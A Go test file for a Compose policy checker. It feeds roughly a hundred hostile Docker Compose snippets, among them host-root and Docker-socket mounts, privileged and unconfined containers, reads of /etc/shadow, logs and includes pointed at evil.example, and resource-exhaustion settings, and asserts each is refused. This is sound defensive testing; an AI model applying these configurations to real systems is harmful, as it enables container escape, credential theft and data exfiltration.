package policy_test

import (
	"strings"
	"testing"

	"github.com/consign-dev/consign/internal/reason"
	"github.com/consign-dev/consign/policy"
)

// attacks on the machine through a Compose file, each as an attacker would
// write it, loaded by compose-go, so what is checked is the form that reaches
// an engine. The message must name what is wanted.
var attacks = map[string]struct {
	yaml string
	want []string
}{
	"C1: engine socket, short":       {service("volumes: ['/var/run/docker.sock:/s']"), []string{"services.web.volumes[0] (needs the grant engineSocket)"}},
	"C1: host root, long":            {service("volumes: [{type: bind, source: /, target: /host}]"), []string{"services.web.volumes[0]"}},
	"C1: relative escape":            {service("volumes: ['../../etc:/e']"), []string{"services.web.volumes[0]"}},
	"C1: driver options bind":        {service("volumes: ['data:/d']") + "volumes: {data: {driver: local, driver_opts: {type: none, o: bind, device: /}}}", []string{"volumes.data.driver_opts"}},
	"C1: other driver":               {service("volumes: ['data:/d']") + "volumes: {data: {driver: nfs}}", []string{"volumes.data.driver"}},
	"C1: path as volume name":        {service("volumes: ['data:/d']") + "volumes: {data: {name: 'press_/etc'}}", []string{"volumes.data.name"}},
	"C1: mount from name":            {service("volumes: ['data:/d']") + "volumes: {data: {name: 'press_d:/etc'}}", []string{"volumes.data.name"}},
	"C1: options in target":          {service("volumes: [{type: volume, source: data, target: '/d:rshared'}]") + "volumes: {data: {}}", []string{"services.web.volumes[0].target"}},
	"C1: anonymous volume":           {service("volumes: ['/data']"), []string{"services.web.volumes[0].source"}},
	"C1: named pipe":                 {service("volumes: [{type: npipe, source: x, target: /x}]"), []string{"services.web.volumes[0]"}},
	"C1: image volume":               {service("volumes: [{type: image, source: x, target: /x}]"), []string{"services.web.volumes[0]"}},
	"C1: volume of another":          {service("volumes_from: ['container:other']"), []string{"services.web.volumes_from"}},
	"C1: relabel":                    {service("volumes: ['data:/d:z']") + "volumes: {data: {}}", []string{"services.web.volumes[0].bind"}},
	"C1: tmpfs as a mount":           {service("tmpfs: ['/t:bind']"), []string{"services.web.tmpfs[0]"}},
	"C1: socket by flag":             {service("use_api_socket: true"), []string{"services.web.use_api_socket (must be false: "}},
	"C2: privileged":                 {service("privileged: true"), []string{"services.web.privileged (needs the grant privileged)"}},
	"C2: cap_add":                    {service("cap_add: [SYS_ADMIN]"), []string{"services.web.cap_add"}},
	"C2: devices":                    {service("devices: ['/dev/sda:/dev/sda']"), []string{"services.web.devices"}},
	"C2: device rules":               {service("device_cgroup_rules: ['a *:* rwm']"), []string{"services.web.device_cgroup_rules"}},
	"C2: device reservation":         {service("deploy: {resources: {reservations: {devices: [{capabilities: [gpu]}]}}}"), []string{"services.web.deploy.resources.reservations.devices"}},
	"C2: gpus":                       {service("gpus: all"), []string{"services.web.gpus"}},
	"C2: seccomp off":                {service("security_opt: ['seccomp:unconfined']"), []string{"services.web.security_opt[0]"}},
	"C2: system paths":               {service("security_opt: ['no-new-privileges:true', 'systempaths=unconfined']"), []string{"services.web.security_opt[1]"}},
	"C2: privileges back on":         {service("security_opt: ['no-new-privileges:false']"), []string{"services.web.security_opt[0]"}},
	"C2: cgroup parent":              {service("cgroup_parent: /"), []string{"services.web.cgroup_parent"}},
	"C2: host cgroup":                {service("cgroup: host"), []string{"services.web.cgroup"}},
	"C2: userns":                     {service("userns_mode: host"), []string{"services.web.userns_mode"}},
	"C2: pid":                        {service("pid: host"), []string{"services.web.pid"}},
	"C2: ipc":                        {service("ipc: host"), []string{"services.web.ipc"}},
	"C2: uts":                        {service("uts: host"), []string{"services.web.uts"}},
	"C2: host network":               {service("network_mode: host"), []string{"services.web.network_mode"}},
	"C2: other's network":            {service("network_mode: 'container:other'"), []string{"services.web.network_mode"}},
	"C2: sysctls":                    {service("sysctls: {net.ipv4.ip_forward: 1}"), []string{"services.web.sysctls"}},
	"C2: runtime":                    {service("runtime: runc"), []string{"services.web.runtime"}},
	"C2: isolation":                  {service("isolation: hyperv"), []string{"services.web.isolation"}},
	"C2: annotations":                {service("annotations: {run.oci.x: y}"), []string{"services.web.annotations"}},
	"C2: oom":                        {service("oom_kill_disable: true\noom_score_adj: -1000"), []string{"services.web.oom_kill_disable", "services.web.oom_score_adj"}},
	"C2: existing network":           {top("networks: {n: {external: true, name: other_default}}"), []string{"networks.n.external", "networks.n.name"}},
	"C2: macvlan":                    {top("networks: {n: {driver: macvlan, driver_opts: {parent: eth0}}}"), []string{"networks.n.driver (", "networks.n.driver_opts"}},
	"C2: address range":              {top("networks: {n: {ipam: {config: [{subnet: 10.0.0.0/8}]}}}"), []string{"networks.n.ipam"}},
	"C2: fixed address":              {service("networks: {default: {ipv4_address: 10.0.0.2}}"), []string{"services.web.networks.default.ipv4_address"}},
	"C2: mac address":                {service("mac_address: '02:00:00:00:00:01'"), []string{"services.web.mac_address"}},
	"C4: env_file":                   {service("env_file: [{path: /etc/shadow, required: false}]"), []string{"services.web.env_file"}},
	"C4: config of a file":           {service("configs: [c]") + "configs: {c: {file: /etc/shadow}}", []string{"configs.c.file", "configs.c.content (is missing)"}},
	"C4: config of a variable":       {service("configs: [c]") + "configs: {c: {environment: HOME}}", []string{"configs.c.environment"}},
	"C4: empty config":               {service("configs: [c]") + "configs: {c: {content: ''}}", []string{"configs.c.content"}},
	"C4: config climbing out":        {service("configs: [{source: c, target: '/etc/../../x'}]") + "configs: {c: {content: x}}", []string{"services.web.configs[0].target"}},
	"C4: external config":            {service("configs: [c]") + "configs: {c: {external: true}}", []string{"configs.c.external"}},
	"C4: secret":                     {service("secrets: [s]") + "secrets: {s: {file: /etc/shadow}}", []string{"secrets.s.file", "secrets"}},
	"C4: label file":                 {service("label_file: ['/etc/shadow']"), []string{"services.web.label_file"}},
	"C4: credential spec":            {service("credential_spec: {file: x}"), []string{"services.web.credential_spec"}},
	"C5: host environment":           {service("environment: [HOME]"), []string{"services.web.environment.HOME (has no value"}},
	"C6: build":                      {service("build: {dockerfile_inline: FROM scratch}"), []string{"services.web.build"}},
	"C7: tag":                        {strings.Replace(service("init: true"), image, "docker.io/library/nginx:1.27", 1), []string{"services.web.image"}},
	"C7: digest elsewhere":           {strings.Replace(service("init: true"), "127.0.0.1:5555", "evil.example:5555", 1), []string{"services.web.image"}},
	"C7: tag and digest":             {strings.Replace(service("init: true"), "/c@", "/c:latest@", 1), []string{"services.web.image"}},
	"C7: no image":                   {"services: {web: {build: .}}", []string{"services.web.build", "services.web.image (is missing)"}},
	"C7: pull policy":                {service("pull_policy: always"), []string{"services.web.pull_policy"}},
	"C7: refresh":                    {service("pull_policy: refresh\npull_refresh_after: 1h"), []string{"services.web.pull_policy", "services.web.pull_refresh_after"}},
	"C8: container name":             {service("container_name: other-web-1"), []string{"services.web.container_name"}},
	"C8: other's volume":             {service("volumes: ['data:/d']") + "volumes: {data: {name: other_data}}", []string{"volumes.data.name (must begin with the project's name"}},
	"C8: external volume":            {service("volumes: ['data:/d']") + "volumes: {data: {external: true}}", []string{"volumes.data.external", "volumes.data.name"}},
	"C8: longer project":             {service("volumes: ['data:/d']") + "volumes: {data: {name: press-2_data}}", []string{"volumes.data.name"}},
	"C8: other's network":            {top("networks: {n: {name: other_default}}"), []string{"networks.n.name"}},
	"C8: the engine's network":       {top("networks: {n: {name: bridge}}"), []string{"networks.n.name"}},
	"C8: Compose's labels":           {service("labels: {com.docker.compose.project: other}"), []string{`services.web.labels["com.docker.compose.project"]`}},
	"C8: volume labels":              {service("volumes: ['data:/d']") + "volumes: {data: {labels: {com.docker.compose.project: other}}}", []string{"volumes.data.labels["}},
	"C8: links":                      {service("external_links: [other]"), []string{"services.web.external_links"}},
	"C9: post_start":                 {service("post_start: [{command: [x], privileged: true}]"), []string{"services.web.post_start"}},
	"C9: pre_stop":                   {service("pre_stop: [{command: [x]}]"), []string{"services.web.pre_stop"}},
	"C9: pre_start":                  {service("pre_start: [{command: [x]}]"), []string{"services.web.pre_start"}},
	"C9: develop":                    {service("develop: {watch: [{action: rebuild, path: /}]}"), []string{"services.web.develop"}},
	"C9: provider":                   {service("provider: {type: x}"), []string{"services.web.provider"}},
	"C9: models":                     {service("models: [m]") + "models: {m: {model: x}}", []string{"services.web.models"}},
	"C9: jobs":                       {top("jobs: {j: {image: x, triggers: {manual: true}}}"), []string{"jobs"}},
	"C10: privileged port":           {service("ports: ['80:80']"), []string{"services.web.ports[0].published (needs the grant ports for \"80/tcp\")"}},
	"C10: port range":                {service("ports: [{target: 80, published: '1024-2000'}]"), []string{"services.web.ports[0].published"}},
	"C10: range below":               {service("ports: [{target: 80, published: '22-9000'}]"), []string{"services.web.ports[0].published"}},
	"C10: protocol":                  {service("ports: [{target: 80, published: '2000', protocol: sctp}]"), []string{"services.web.ports[0].protocol"}},
	"C11: profile":                   {service("profiles: []\nprivileged: true"), []string{"services.web.privileged"}},
	"C12: remote log":                {service("logging: {driver: syslog, options: {syslog-address: 'tcp://evil.example:514'}}"), []string{"services.web.logging.driver", "services.web.logging.options.syslog-address"}},
	"C12: dns":                       {service("dns: [6.6.6.6]\ndns_search: [evil.example]\ndns_opt: [x]"), []string{"services.web.dns[0] (", "services.web.dns_search", "services.web.dns_opt"}},
	"C12: extra hosts":               {service("extra_hosts: ['registry:6.6.6.6']"), []string{"services.web.extra_hosts"}},
	"C13: unbounded log":             {service("logging: {driver: json-file, options: {max-size: '-1'}}"), []string{"services.web.logging.options.max-size"}},
	"C13: huge log":                  {service("logging: {driver: local, options: {max-size: 1g}}"), []string{"services.web.logging.options (at most 100m, the grant limits.logs, not 3g)"}},
	"C13: memory":                    {service("mem_limit: 2g"), []string{"services.web.mem_limit (at most 1g, the grant limits.memory, not 2g)"}},
	"C13: memory by deploy":          {service("deploy: {resources: {limits: {memory: 2g}}}"), []string{"services.web.deploy.resources.limits.memory (at most 1g"}},
	"C13: processors":                {service("cpus: 1.5"), []string{"services.web.cpus (at most 1, the grant limits.cpus, not 1.5)"}},
	"C13: processes":                 {service("pids_limit: 513"), []string{"services.web.pids_limit (at most 512, the grant limits.pids, not 513)"}},
	"C13: containers":                {top("  db: {image: '" + image + "', scale: 16}"), []string{"services (at most 16 containers, the grant limits.containers, not 17 containers)"}},
	"C13: tmpfs":                     {service("tmpfs: ['/t:size=1g']"), []string{"services.web.tmpfs[0] (at most 256m, the grant limits.tmpfs, not 1g)"}},
	"C13: tmpfs as a mount":          {service("volumes: [{type: tmpfs, target: /t, tmpfs: {size: 1g}}]"), []string{"services.web.volumes[0].tmpfs.size (at most 256m"}},
	"C13: tmpfs of half the machine": {service("tmpfs: ['/t:size=50%']"), []string{"services.web.tmpfs[0]"}},
	"C13: tmpfs with two sizes":      {service("tmpfs: ['/t:size=1g,size=1m']"), []string{"services.web.tmpfs[0] (must have one size"}},
	"C13: quota beside cpus":         {service("cpu_quota: 1000000"), []string{"services.web.cpu_quota (never granted: say cpus)"}},
	"C13: disks":                     {service("blkio_config: {weight: 1000}"), []string{"services.web.blkio_config"}},
	"C13: killed last":               {service("oom_score_adj: -1"), []string{"services.web.oom_score_adj"}},
	"C13: many log files":            {service("logging: {driver: local, options: {max-size: 1m, max-file: '1000'}}"), []string{"services.web.logging.options.max-file"}},
	"C13: no pids limit":             {service("pids_limit: -1"), []string{"services.web.pids_limit"}},
	"C13: swap without end":          {service("mem_limit: 64m\nmemswap_limit: -1"), []string{"services.web.memswap_limit"}},
	"C13: ulimits":                   {service("ulimits: {nofile: 1000000}"), []string{"services.web.ulimits"}},
	"C13: shared memory":             {service("shm_size: 100g"), []string{"services.web.shm_size"}},
	"C13: replicas":                  {service("deploy: {replicas: 1000}"), []string{"services.web.deploy.replicas"}},
	"C13: scale":                     {service("scale: 1000"), []string{"services.web.scale"}},
	"C13: real time":                 {service("cpu_rt_runtime: 950000"), []string{"services.web.cpu_rt_runtime"}},
	"C13: never stops":               {service("stop_grace_period: 1000h"), []string{"services.web.stop_grace_period"}},
	"C13: storage":                   {service("storage_opt: {size: 1t}"), []string{"services.web.storage_opt"}},
	"C13: many networks":             {top("networks: {a: {}, b: {}, c: {}, d: {}, e: {}, f: {}, g: {}, h: {}, i: {}}"), []string{"networks (10 of them"}},
	"other: extension":               {top("x-note: {}"), []string{"x-note"}},
	"other: several at once":         {service("privileged: true\npid: host\ncap_add: [ALL]\nruntime: x"), []string{"privileged", "pid", "cap_add", "runtime"}},
}

// attack runs the attacks of one kind without any grants.
func attack(t *testing.T, kind string) {
	t.Helper()
	seen := 0
	for name, c := range attacks {
		if !strings.HasPrefix(name, kind+": ") {
			continue
		}
		seen++
		t.Run(name, func(t *testing.T) {
			err := (policy.Grants{}).CheckCompose(resolve(t, c.yaml))
			if !reason.Is(err, reason.Grant) {
				t.Fatalf("got %v, want grant", err)
			}
			for _, want := range c.want {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("%v\ndoes not name %q", err, want)
				}
			}
		})
	}
	if seen == 0 {
		t.Fatalf("no attack is called %s", kind)
	}
}

func TestAttackC1MountsOfTheMachine(t *testing.T)       { attack(t, "C1") }
func TestAttackC2PrivilegesOfTheContainer(t *testing.T) { attack(t, "C2") }
func TestAttackC4FilesOfTheMachine(t *testing.T)        { attack(t, "C4") }
func TestAttackC5EnvironmentOfTheMachine(t *testing.T)  { attack(t, "C5") }
func TestAttackC6Builds(t *testing.T)                   { attack(t, "C6") }
func TestAttackC7ImagesNotByDigest(t *testing.T)        { attack(t, "C7") }
func TestAttackC8NamesOfOthers(t *testing.T)            { attack(t, "C8") }
func TestAttackC9CodeOutsideOfContainers(t *testing.T)  { attack(t, "C9") }
func TestAttackC10PortsOfOthers(t *testing.T)           { attack(t, "C10") }
func TestAttackC12WaysOffTheDevice(t *testing.T)        { attack(t, "C12") }
func TestAttackC13StarvingTheMachine(t *testing.T)      { attack(t, "C13") }
func TestUnknownKeysAreRefused(t *testing.T)            { attack(t, "other") }

// Attack C3: a render never holds them, since composefile refuses them before
// anything is resolved; that the check refuses them, too, is one line.
func TestAttackC3OtherFiles(t *testing.T) {
	base := string(resolve(t, service("init: true")))
	for name, c := range map[string]struct{ old, new, want string }{
		"include": {`"services"`, `"include": ["oci://evil.example/x"], "services"`, "include (never granted"},
		"extends": {`"image"`, `"extends": {"file": "/etc/x.yaml", "service": "y"}, "image"`, "services.web.extends (never granted"},
	} {
		err := (policy.Grants{}).CheckCompose([]byte(strings.Replace(base, c.old, c.new, 1)))
		if !reason.Is(err, reason.Grant) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: got %v", name, err)
		}
	}
}

// Attack C11: a service is judged whatever its profile, and the profile itself
// is refused, for a render has none.
func TestAttackC11HiddenServices(t *testing.T) {
	attack(t, "C11")
	base := string(resolve(t, service("privileged: true")))
	hidden := strings.Replace(base, `"image"`, `"profiles": ["debug"], "image"`, 1)
	err := (policy.Grants{}).CheckCompose([]byte(hidden))
	if !reason.Is(err, reason.Grant) || !strings.Contains(err.Error(), "services.web.profiles (never") || !strings.Contains(err.Error(), "services.web.privileged (") {
		t.Errorf("got %v", err)
	}
}
